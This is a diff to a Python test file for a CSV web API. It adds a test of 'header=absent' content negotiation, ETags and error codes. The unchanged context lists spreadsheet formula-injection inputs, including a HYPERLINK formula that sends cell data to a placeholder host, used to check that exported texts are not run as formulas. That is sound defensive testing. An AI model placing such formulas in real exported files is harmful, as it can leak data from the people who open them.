@@ -382,6 +382,32 @@ def test_an_empty_list_has_its_header(played):
     assert rows == [] and header[0] == "id"
 
 
+def test_without_a_header_line(server):
+    """Accept's header=absent (RFC 4180, section 3; RFC 7111): the same records, and the type says so. Of a type that there is not, 406."""
+    path = "/provinces?limit=5"
+    whole = server.get(path, headers={"Accept": "text/csv"})
+    for accept in ("text/csv; header=absent", 'text/csv;charset=utf-8;Header="ABSENT"', "text/csv;header=absent, text/csv;q=0.5, */*;q=0.1",
+                   "text/csv;header=present;q=0.3, text/csv;header=absent", "text/csv;header=maybe, text/csv;header=absent"):
+        reply = server.get(path, headers={"Accept": accept})
+        assert reply.status_code == 200 and reply.headers["Content-Type"] == "text/csv; charset=utf-8; header=absent", accept
+        assert reply.content == whole.content.partition(b"\r\n")[2] and reply.headers["ETag"] != whole.headers["ETag"]
+        assert "Accept" in reply.headers["Vary"]
+        assert server.get(path, headers={"Accept": accept, "If-None-Match": reply.headers["ETag"]}).status_code == 304
+        assert server.get(path, headers={"Accept": accept, "If-None-Match": whole.headers["ETag"]}).status_code == 200
+    for accept in ("text/csv", "text/csv;header=present", "text/csv, text/csv;header=absent;q=0.5", "text/csv;header=absent;q=0, text/*"):
+        assert server.get(path, headers={"Accept": accept}).content == whole.content, accept
+    for accept in ("text/csv;header=maybe", "text/csv;header=absent;q=0"):
+        refused = server.get(path, headers={"Accept": accept})
+        assert refused.status_code == 406 and "text/csv" in refused.json()["representations"], accept
+    assert server.get(path, headers={"Accept": "text/csv;header=absent;q=0.5, application/json"}).json()["items"]
+    body = {"values": [1, 2, 4], "points": 17}
+    table = server.post("/density", body, token=None, headers={"Accept": "text/csv"})
+    reply = server.post("/density", body, token=None, headers={"Accept": "text/csv;header=absent"})
+    assert table.status_code == 200 and reply.content == table.content.partition(b"\r\n")[2] and reply.headers["Content-Type"].endswith("header=absent")
+    sent = server.request("PUT", "/figures", data=b"CN-HB,beds,2018,1\r\n", token=True, headers={"Content-Type": "text/csv; header=absent"})
+    assert sent.status_code == 415 and "text/csv" in sent.headers["Accept"] and "header line" in sent.json()["detail"]
+
+
 @pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "'quoted", "＝1", "\t=1", '=HYPERLINK("http://x/?"&A1,"a, b")',
                                   "two\nlines", 'a "word"', "a,b", "plain", "北京"])
 def test_texts_are_no_formulas_and_come_back(played, name):
